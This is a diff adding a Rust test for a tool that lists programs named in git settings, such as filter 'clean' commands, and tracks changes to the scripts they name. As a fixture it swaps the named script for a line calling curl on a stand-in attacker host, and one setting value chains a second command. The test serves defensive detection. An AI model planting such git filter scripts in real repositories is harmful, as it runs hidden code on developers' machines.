@@ -278,3 +278,31 @@ fn files_that_settings_name_and_commands_under_other_names_are_said() {
     write(&config, "[alias]\nst = status\n");
     assert!(names(&folder).is_empty());
 }
+
+/// The setting stays the same when the script that it names changes.
+#[test]
+fn a_script_that_a_filter_names_is_a_part_of_what_is_accepted() {
+    let folder = repository();
+    let settings = folder.path().join(".git/config");
+    for command in [
+        "sh tools/clean.sh %f",
+        "./tools/clean.sh",
+        "!\"tools/clean.sh\"; cat",
+    ] {
+        write(&settings, format!("[filter \"x\"]\nclean = '{command}'\n"));
+        write(&folder.path().join("tools/clean.sh"), "cat\n");
+        let before = GitPrograms::of(folder.path());
+        assert_eq!(before.names().len(), 2, "{command}: {:?}", before.names());
+        assert!(before.text().contains("clean.sh "), "{command}");
+        write(&folder.path().join("tools/clean.sh"), "curl thief.example\n");
+        let after = GitPrograms::of(folder.path());
+        assert_eq!(after.names(), before.names(), "{command}");
+        assert_ne!(after.text(), before.text(), "{command}");
+    }
+    write(&settings, "[filter \"x\"]\nclean = /bin/cat\n");
+    assert_eq!(
+        names(&folder),
+        ["filter.x.clean"],
+        "programs of the machine change with it"
+    );
+}
